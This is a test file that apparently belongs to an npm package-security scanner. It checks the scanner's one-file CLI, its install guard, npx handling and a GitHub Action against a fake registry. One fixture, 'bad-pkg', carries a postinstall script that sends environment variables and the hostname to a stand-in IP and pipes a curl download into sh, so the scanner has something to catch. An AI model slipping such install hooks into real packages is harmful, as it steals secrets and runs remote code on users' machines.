/**
 * The one-file CLI against the local service: built by `buildCli` into a folder of its own, run
 * with Node from an empty folder (nothing installed beside it), checking a lockfile, guarding
 * `npm install` (npm itself, pointed at the fake registry), and driven by the GitHub Action's
 * entry script as the runner would (PKGSCAN_INPUT_* in, job summary and outputs out).
 * Packages come from the fake registry and are scanned by the real scanner; nothing leaves
 * loopback.
 */
import { execFile } from 'node:child_process';
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { buildCli } from '../../scripts/build-cli';
import { pkgJson, tgz } from '../unit/analysis/helpers';
import { startPipeline, type TestPipeline } from './support/pipeline';

jest.setTimeout(180_000);

const exec = promisify(execFile);
const REPO = path.resolve(__dirname, '../..');

let pipeline: TestPipeline;
let work: string;
let bundle: string;

/** Runs `node <bundle> …args` in `cwd` with a minimal environment; never throws on exit codes. */
async function cli(args: string[], cwd: string, env: Record<string, string> = {}, file = bundle) {
  try {
    const { stdout, stderr } = await exec(process.execPath, [file, ...args], {
      cwd,
      env: baseEnv(env),
      maxBuffer: 16 * 1024 * 1024,
    });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const e = error as { code?: number; stdout?: string; stderr?: string };
    return { code: typeof e.code === 'number' ? e.code : -1, stdout: e.stdout ?? '', stderr: e.stderr ?? '' };
  }
}

/** PATH (for npm) and a private npm cache; nothing of the developer's npm configuration. */
function baseEnv(extra: Record<string, string>): Record<string, string> {
  return {
    PATH: process.env.PATH ?? '',
    HOME: path.join(work, 'home'),
    npm_config_cache: path.join(work, 'npm-cache'),
    npm_config_update_notifier: 'false',
    ...extra,
  };
}

function lockfile(packages: Record<string, string>): string {
  const entries = Object.fromEntries(
    Object.entries(packages).map(([name, version]) => [
      `node_modules/${name}`,
      { version, resolved: `${pipeline.registry.url}/${name}/-/${name}-${version}.tgz` },
    ]),
  );
  return `${JSON.stringify(
    {
      name: 'app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: { '': { name: 'app', version: '1.0.0', dependencies: packages }, ...entries },
    },
    null,
    2,
  )}\n`;
}

async function scan(name: string, version: string): Promise<void> {
  const ack = (await pipeline.requestScan({ name, version })).body as { job_id: string };
  const job = await pipeline.waitForJob(ack.job_id);
  expect(job.status).toBe('completed');
}

beforeAll(async () => {
  work = mkdtempSync(path.join(tmpdir(), 'pkgscan-bundle-'));
  bundle = await buildCli({ quiet: true, outfile: path.join(work, 'bin', 'pkgscan.mjs') });
  pipeline = await startPipeline({ importAdvisories: true });
  const reg = pipeline.registry;
  reg.addPackage(
    'tiny-dep',
    '1.0.0',
    tgz([
      pkgJson({ name: 'tiny-dep', version: '1.0.0', main: 'index.js' }),
      { name: 'package/index.js', data: 'module.exports = (a, b) => a + b;\n' },
    ]),
  );
  reg.addPackage(
    'good-pkg',
    '1.0.0',
    tgz([
      pkgJson({
        name: 'good-pkg',
        version: '1.0.0',
        main: 'index.js',
        bin: { 'good-pkg': 'cli.js' },
        dependencies: { 'tiny-dep': '^1.0.0' },
      }),
      {
        name: 'package/index.js',
        data: "const add = require('tiny-dep');\nmodule.exports = (x) => add(x, 1);\n",
      },
      {
        name: 'package/cli.js',
        data: "#!/usr/bin/env node\nconsole.log('good-pkg says', process.argv.slice(2).join(' '));\n",
      },
    ]),
    { dependencies: { 'tiny-dep': '^1.0.0' }, bin: { 'good-pkg': 'cli.js' } },
  );
  reg.addPackage(
    'bad-pkg',
    '1.0.0',
    tgz([
      pkgJson({ name: 'bad-pkg', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
      {
        name: 'package/setup.js',
        data: [
          "const https = require('https');",
          "const os = require('os');",
          'const body = JSON.stringify({ env: process.env, host: os.hostname(), home: os.homedir() });',
          "const req = https.request({ host: '203.0.113.7', path: '/c', method: 'POST' });",
          'req.end(body);',
          "require('child_process').exec('curl -s http://203.0.113.7/s.sh | sh');",
          '',
        ].join('\n'),
      },
    ]),
    { scripts: { postinstall: 'node setup.js' } },
  );
  // Never scanned before the tests that install them (each is asked for once).
  for (const name of ['fresh-a', 'fresh-b'])
    reg.addPackage(
      name,
      '1.0.0',
      tgz([
        pkgJson({ name, version: '1.0.0', main: 'index.js' }),
        { name: 'package/index.js', data: 'module.exports = 1;\n' },
      ]),
    );
  await scan('good-pkg', '1.0.0');
  await scan('bad-pkg', '1.0.0');
});

afterAll(async () => {
  await pipeline?.stop();
  if (work) rmSync(work, { recursive: true, force: true });
});

describe('the one-file CLI in an empty folder', () => {
  it('checks a package-lock.json and exits by policy', async () => {
    const dir = mkdtempSync(path.join(work, 'empty-'));
    const single = path.join(dir, 'pkgscan.mjs');
    copyFileSync(bundle, single);
    writeFileSync(path.join(dir, 'package-lock.json'), lockfile({ 'good-pkg': '1.0.0' }));
    const ok = await cli(['--api-url', pipeline.api.url], dir, {}, single);
    expect(ok.stderr).not.toContain('unexpected error');
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain('pkgscan: passed: 1 package (0 critical, 0 warning, 1 clean)');

    writeFileSync(path.join(dir, 'package-lock.json'), lockfile({ 'good-pkg': '1.0.0', 'bad-pkg': '1.0.0' }));
    const bad = await cli(['--api-url', pipeline.api.url, '--json'], dir, {}, single);
    expect(bad.code).toBe(1);
    const json = JSON.parse(bad.stdout);
    expect(json.passed).toBe(false);
    const badPkg = json.packages.find((p: { name: string }) => p.name === 'bad-pkg');
    expect(badPkg).toMatchObject({ status: 'fail', riskLevel: 'critical' });
    // Its install script is judged from what the scan saw it do.
    expect(badPkg.installScripts).toMatchObject({ recommendation: 'deny' });
  });
});

describe('every lockfile format in the one-file build', () => {
  const FIXTURES = path.join(REPO, 'test/fixtures/cli/lockfiles');
  it.each([
    ['npm-v1', 9],
    ['npm-v3', 9],
    ['npm-workspaces', 4],
    ['pnpm-v6', 9],
    ['pnpm-v9', 9],
    ['yarn-classic', 9],
    ['yarn-berry', 9],
  ])('%s: read and looked up (bundled parsers work without node_modules)', async (fixture, packages) => {
    const r = await cli(['--api-url', pipeline.api.url, '--json'], path.join(FIXTURES, fixture));
    expect(r.stderr).not.toContain('unexpected error');
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).summary).toMatchObject({ packages, unknown: packages });
  });
});

describe('pkgscan install: a guard in front of npm install', () => {
  let project: string;
  beforeEach(() => {
    project = mkdtempSync(path.join(work, 'project-'));
    writeFileSync(
      path.join(project, 'package.json'),
      '{ "name": "app", "version": "1.0.0", "private": true }\n',
    );
  });
  const guard = (specs: string[], extra: string[] = []) =>
    cli(
      [
        'install',
        ...specs,
        '--api-url',
        pipeline.api.url,
        '--registry',
        `${pipeline.registry.url}/`,
        ...extra,
      ],
      project,
    );

  it('refuses a package the policy fails and installs nothing', async () => {
    const r = await guard(['bad-pkg@^1']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('not running npm install: the policy failed');
    expect(r.stdout).toMatch(/FAIL\s+bad-pkg\s+1\.0\.0/);
    expect(existsSync(path.join(project, 'node_modules', 'bad-pkg'))).toBe(false);
    expect(JSON.parse(readFileSync(path.join(project, 'package.json'), 'utf8')).dependencies).toBeUndefined();
  });

  it('installs a package that passes, after scanning its unscanned dependency', async () => {
    const r = await guard(['good-pkg']);
    expect(r.stderr).not.toContain('unexpected error');
    expect(r.code).toBe(0);
    // tiny-dep was never scanned: the guard requested its scan and waited for it.
    expect(r.stderr).toMatch(/Requested 1 scan/);
    expect(r.stderr).toContain('running npm install');
    expect(existsSync(path.join(project, 'node_modules', 'good-pkg', 'index.js'))).toBe(true);
    expect(existsSync(path.join(project, 'node_modules', 'tiny-dep', 'index.js'))).toBe(true);
    expect(JSON.parse(readFileSync(path.join(project, 'package.json'), 'utf8')).dependencies).toEqual({
      'good-pkg': '^1.0.0',
    });
  });

  it('answers a name that does not exist with not found, and runs nothing', async () => {
    const r = await guard(['good-pkgg']);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain("NOT FOUND  good-pkgg: no package named 'good-pkgg' in the registry");
    expect(existsSync(path.join(project, 'node_modules'))).toBe(false);
  });

  it('checks what an alias really installs: "lodash": "npm:bad-pkg@^1" is bad-pkg', async () => {
    writeFileSync(
      path.join(project, 'package.json'),
      JSON.stringify({
        name: 'app',
        version: '1.0.0',
        private: true,
        dependencies: { lodash: 'npm:bad-pkg@^1' },
      }),
    );
    const r = await guard([]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/FAIL\s+bad-pkg\s+1\.0\.0/);
    expect(existsSync(path.join(project, 'node_modules'))).toBe(false);
  });

  it('is not blinded by npm output settings (colour, JSON) in the environment', async () => {
    const r = await cli(
      ['install', 'bad-pkg', '--api-url', pipeline.api.url, '--registry', `${pipeline.registry.url}/`],
      project,
      { npm_config_color: 'always', npm_config_json: 'true' },
    );
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/FAIL\s+bad-pkg\s+1\.0\.0/);
  });

  it('fails a version that stays unscanned, and --yes-unknown lets it through with a warning', async () => {
    const refused = await guard(['fresh-a'], ['--scan-timeout', '0']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('1 not checked; --yes-unknown lets them through');
    expect(existsSync(path.join(project, 'node_modules', 'fresh-a'))).toBe(false);
    const allowed = await guard(['fresh-b'], ['--scan-timeout', '0', '--yes-unknown']);
    expect(allowed.code).toBe(0);
    expect(allowed.stderr).toContain('not checked and let through by --yes-unknown: fresh-b@1.0.0');
    expect(existsSync(path.join(project, 'node_modules', 'fresh-b', 'index.js'))).toBe(true);
  });

  it('installs globally (-g) only after the check, into the configured prefix', async () => {
    const prefix = mkdtempSync(path.join(work, 'prefix-'));
    const global = (spec: string) =>
      cli(
        [
          'install',
          spec,
          '--api-url',
          pipeline.api.url,
          '--registry',
          `${pipeline.registry.url}/`,
          '--',
          '-g',
        ],
        project,
        { npm_config_prefix: prefix },
      );
    const r = await global('good-pkg');
    expect(r.stderr).not.toContain('unexpected error');
    expect(r.code).toBe(0);
    expect(existsSync(path.join(prefix, 'lib', 'node_modules', 'good-pkg', 'cli.js'))).toBe(true);
    expect((await global('bad-pkg')).code).toBe(1);
    expect(existsSync(path.join(prefix, 'lib', 'node_modules', 'bad-pkg'))).toBe(false);
  });

  it('npx runs the checked version of a command, and refuses a failing one', async () => {
    const npx = (spec: string, args: string[] = []) =>
      cli(
        [
          'npx',
          spec,
          '--api-url',
          pipeline.api.url,
          '--registry',
          `${pipeline.registry.url}/`,
          '--',
          ...args,
        ],
        project,
      );
    const r = await npx('good-pkg', ['hello', 'world']);
    expect(r.stderr).not.toContain('unexpected error');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('good-pkg says hello world');
    const bad = await npx('bad-pkg');
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('not running npx: the policy failed');
  });

  it('refuses packages hidden after --, which npm would install unchecked', async () => {
    const r = await guard(['good-pkg', '--', 'bad-pkg']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("'bad-pkg' after -- would be installed unchecked");
  });
});

describe('the GitHub Action entry script', () => {
  it('runs the CLI from its inputs, writes the job summary and outputs, and fails by policy', async () => {
    const dir = mkdtempSync(path.join(work, 'action-'));
    writeFileSync(path.join(dir, 'package-lock.json'), lockfile({ 'good-pkg': '1.0.0', 'bad-pkg': '1.0.0' }));
    const summary = path.join(dir, 'summary.md');
    const output = path.join(dir, 'output.txt');
    let code = 0;
    try {
      await exec(process.execPath, [path.join(REPO, 'action', 'entry.mjs')], {
        cwd: dir,
        env: baseEnv({
          GITHUB_STEP_SUMMARY: summary,
          GITHUB_OUTPUT: output,
          PKGSCAN_INPUT_API_URL: pipeline.api.url,
          PKGSCAN_INPUT_LOCKFILE: 'package-lock.json',
          PKGSCAN_INPUT_FAIL_ON: 'critical',
          PKGSCAN_INPUT_SARIF: 'pkgscan.sarif',
          PKGSCAN_INPUT_CLI: bundle,
        }),
      });
    } catch (error) {
      code = (error as { code: number }).code;
    }
    expect(code).toBe(1);
    expect(readFileSync(summary, 'utf8')).toContain('## ❌ pkgscan: 1 package violates the policy');
    const outputs = readFileSync(output, 'utf8');
    expect(outputs).toContain('passed=false\n');
    expect(outputs).toContain('exit-code=1\n');
    expect(outputs).toContain(`sarif=${path.join(dir, 'pkgscan.sarif')}\n`);
    const sarif = JSON.parse(readFileSync(path.join(dir, 'pkgscan.sarif'), 'utf8'));
    expect(sarif.runs[0].results.some((r: { ruleId: string }) => r.ruleId === 'risk-critical')).toBe(true);
  });
});
